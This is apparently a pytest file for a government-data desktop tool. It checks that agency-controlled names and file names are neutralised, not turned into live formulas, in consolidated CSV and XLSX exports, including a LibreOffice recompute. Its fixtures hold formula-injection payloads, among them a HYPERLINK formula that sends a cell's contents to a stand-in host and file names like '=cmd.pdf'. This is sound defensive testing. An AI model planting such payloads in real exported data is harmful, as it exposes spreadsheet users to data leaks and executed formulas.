"""Hostile agency text never becomes a spreadsheet formula on the coordinator's PC, and the
coordinator's registry, not the payload, names an agency (CSV/formula injection, CWE-1236).

Real agencies, real signatures, a real central store, the real CLI; the XLSX is read back
with openpyxl and, when LibreOffice is installed, recomputed by LibreOffice itself.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess

import pytest
from campaign import AGENCY_PASS, CA_PASS, reused_agency_keys
from openpyxl import load_workbook

from digigov_desktop import cli, tabular
from digigov_desktop.services.credentials import CredentialService
from digigov_desktop.services.demo import create_demo
from digigov_desktop.services.export import export_submission
from digigov_desktop.services.import_ import Importer
from digigov_desktop.signing.authority import CertificateAuthority
from digigov_desktop.storage import central

# (code, name in the agency's own database, name the coordinator registered)
HOSTILE = [
    ("AG-EQ", "=2+3", "Servicio Igual"),
    ("AG-PLUS", "+SUM(1,2)", "Servicio Más"),
    ("AG-MINUS", "-2+3", "Servicio Menos"),
    ("AG-AT", "@SUM(1+2)", "Servicio Arroba"),
    ("AG-TAB", "\t=1+2", "Servicio Tabulador"),
    ("AG-CR", '\r=HYPERLINK("http://example.invalid/?"&A2,"x")', "Servicio Retorno"),
    # a registry name that itself starts with a trigger: stored as text, not as a formula
    ("AG-REG", "Servicio Registro", "=Registro Especial"),
]
AGENCIES = {code: (own, registered) for code, own, registered in HOSTILE}
# agency-controlled file names, imported by relative path (as `digigov import *.pdf` would)
FILE_NAMES = {
    "AG-EQ": "=1+2.pdf", "AG-PLUS": "+1.pdf", "AG-MINUS": "-1.pdf", "AG-AT": "@1.pdf",
    "AG-TAB": "\t=1.pdf", "AG-CR": "\r=1.pdf", "AG-REG": "registro.pdf",
}


def _formula_like(text: str) -> bool:
    return isinstance(text, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A central store holding one real signed submission of each hostile agency, plus one
    rejected file with a hostile name; returns (central path, folder of the files)."""
    folder = tmp_path_factory.mktemp("hostile")
    ca = CertificateAuthority.init(folder / "ca", name="Coordinación", passphrase=CA_PASS)
    inbox = folder / "inbox"
    inbox.mkdir()
    with reused_agency_keys(2):
        for code, (own, registered) in AGENCIES.items():
            store = create_demo(folder / f"{code}.sqlite", agency_code=code, agency_name=own)
            try:
                service = CredentialService(store, actor="test")
                csr = service.request(passphrase=AGENCY_PASS, agency_name=registered)
                cert = ca.issue_from_csr(csr, agency_code=code, agency_name=registered,
                                         passphrase=CA_PASS)
                service.install_certificate(cert, trust_pem=ca.bundle_pem())
                export_submission(store, out=inbox / FILE_NAMES[code], passphrase=AGENCY_PASS)
            finally:
                store.close()
    (inbox / "=cmd.pdf").write_bytes(b"not a pdf")
    central_path = folder / "central.sqlite"
    return central_path, inbox, ca


def _import(hostile, monkeypatch) -> None:
    central_path, inbox, ca = hostile
    if central_path.exists():
        return
    monkeypatch.chdir(inbox)
    with central.open_central(central_path) as store:
        names = sorted(p.name for p in inbox.iterdir())
        from pathlib import Path

        results = [p.result for p in Importer(store, ca, actor="coord").run(
            [Path(n) for n in names])]
    outcomes = {str(r.path): r.outcome for r in results}
    assert outcomes.pop("=cmd.pdf") != "ACCEPTED"
    assert set(outcomes.values()) == {"ACCEPTED"}, outcomes


def _csv_rows(raw: bytes, delimiter: str = ",") -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))


def test_registry_names_the_agency_and_a_differing_payload_is_flagged(hostile, monkeypatch):
    _import(hostile, monkeypatch)
    with central.open_central(hostile[0]) as store:
        rows = {r["agency_code"]: r for r in store.query("SELECT * FROM submission")}
        assert {c: r["agency_name"] for c, r in rows.items()} == {
            c: registered for c, (_own, registered) in AGENCIES.items()}
        declared = {c: r["declared_agency_name"] for c, r in rows.items()}
        # the payload's own name is kept for the record (stripped of surrounding blanks by
        # the agency app), and only where it differs from the registry's
        for code, (own, _registered) in AGENCIES.items():
            assert declared[code] is not None and declared[code].strip() == own.strip()
        log = [r for r in central.import_log(store) if r["outcome"] == "ACCEPTED"]
        assert len(log) == len(AGENCIES)
        assert all(r["name_mismatch"] == 1 for r in log)
        assert all("agency name differs from the registry" in r["message"] for r in log)


def test_consolidated_csv_and_xlsx_hold_no_formula(hostile, monkeypatch, tmp_path, capsys):
    _import(hostile, monkeypatch)
    central_path = hostile[0]
    out_csv, out_xlsx = tmp_path / "c.csv", tmp_path / "c.xlsx"
    for option, target in (("--csv", out_csv), ("--xlsx", out_xlsx)):
        assert cli.main(["consolidate", "--central", str(central_path), option,
                         str(target)]) == 0, capsys.readouterr().err

    rows = _csv_rows(out_csv.read_bytes())
    names = {r[0]: r[1] for r in rows[1:]}
    assert names["AG-EQ"] == "Servicio Igual"
    assert names["AG-REG"] == "'=Registro Especial"  # neutralised (OWASP), still readable
    assert not any(_formula_like(cell) for row in rows for cell in row)
    assert float(rows[1][rows[0].index("overall")]) >= 0  # numbers stay numbers

    book = load_workbook(out_xlsx)  # not read-only: data types are visible
    sheet = book.active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_code = {r[0].value: r[1] for r in sheet.iter_rows(min_row=2)}
    assert by_code["AG-REG"].value == "=Registro Especial"
    assert by_code["AG-REG"].data_type == "s" and by_code["AG-REG"].quotePrefix
    assert by_code["AG-CR"].value == "Servicio Retorno"
    overall = sheet.cell(row=2, column=7)
    assert overall.data_type == "n"
    book.close()


def test_import_log_csv_holds_no_formula(hostile, monkeypatch, tmp_path, capsys):
    _import(hostile, monkeypatch)
    target = tmp_path / "log.csv"
    assert cli.main(["import-log", "--central", str(hostile[0]), "--csv", str(target)]) == 0
    rows = _csv_rows(target.read_bytes())
    assert rows[0][-1] == "name_mismatch"
    files = {r[rows[0].index("file_name")] for r in rows[1:]}
    assert "'=cmd.pdf" in files and "'=1+2.pdf" in files and "'\t=1.pdf" in files
    assert not any(_formula_like(cell) for row in rows for cell in row)


def test_excel_es_csv(hostile, monkeypatch, tmp_path, capsys):
    _import(hostile, monkeypatch)
    plain, es = tmp_path / "plain.csv", tmp_path / "es.csv"
    assert cli.main(["consolidate", "--central", str(hostile[0]), "--csv", str(plain)]) == 0
    assert cli.main(["consolidate", "--central", str(hostile[0]), "--csv", str(es),
                     "--excel-es"]) == 0
    a, b = _csv_rows(plain.read_bytes()), _csv_rows(es.read_bytes(), delimiter=";")
    assert a[0] == b[0] and len(a) == len(b)
    for row_a, row_b in zip(a, b, strict=True):
        assert [x.replace(".", ",") if _is_number(x) else x for x in row_a] == row_b
    assert any("," in x for row in b[1:] for x in row[6:10])  # decimal commas are there
    assert not any(_formula_like(cell) for row in b for cell in row)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_tabular_cells():
    assert tabular.csv_cell(-1.5) == "-1.5" and tabular.csv_cell(-2) == "-2"
    assert tabular.csv_cell(3.0) == "3" and tabular.csv_cell(None) == ""
    assert tabular.csv_cell(2.25, decimal=",") == "2,25"
    for text in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "\0x"):
        assert tabular.csv_cell(text) == "'" + text
    assert tabular.csv_cell("Ñuñoa = 3") == "Ñuñoa = 3"


# scripts/dev.sh installs it for the tests; CI must run this check, not skip it.
@pytest.mark.skipif(shutil.which("soffice") is None and not os.environ.get("CI"),
                    reason="LibreOffice is not installed (scripts/dev.sh setup installs it)")
def test_libreoffice_evaluates_nothing(hostile, monkeypatch, tmp_path, capsys):
    """LibreOffice opens the XLSX and the CSV files and recomputes them: the hostile texts
    come back as text, not as the results of formulas."""
    _import(hostile, monkeypatch)
    xlsx, log = tmp_path / "c.xlsx", tmp_path / "log.csv"
    assert cli.main(["consolidate", "--central", str(hostile[0]), "--xlsx", str(xlsx)]) == 0
    assert cli.main(["import-log", "--central", str(hostile[0]), "--csv", str(log)]) == 0
    out = tmp_path / "lo"
    for source in (xlsx, log):
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
             "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
             str(out / source.suffix[1:]), str(source)],
            check=True, capture_output=True, timeout=180)
    sheet = (out / "xlsx" / "c.csv").read_text(encoding="utf-8")
    assert "=Registro Especial" in sheet and "Servicio Igual" in sheet
    text = (out / "csv" / "log.csv").read_text(encoding="utf-8")
    for name in ("=cmd.pdf", "=1+2.pdf", "+1.pdf", "-1.pdf", "@1.pdf"):
        assert name in text, name
    assert "#NAME?" not in text and "Err:" not in text


def test_excel_es_needs_csv(hostile, monkeypatch, tmp_path, capsys):
    args = ["consolidate", "--central", str(hostile[0]), "--xlsx", str(tmp_path / "x.xlsx"),
            "--excel-es"]
    assert cli.main(["--lang", "en", *args]) == 2
    assert capsys.readouterr().err == (
        "digigov consolidate: error: --excel-es applies to --csv only\n")
    assert cli.main(["--lang", "es", *args]) == 2
    assert capsys.readouterr().err == (
        "digigov consolidate: error: --excel-es solo se aplica a --csv\n")
    assert not (tmp_path / "x.xlsx").exists()
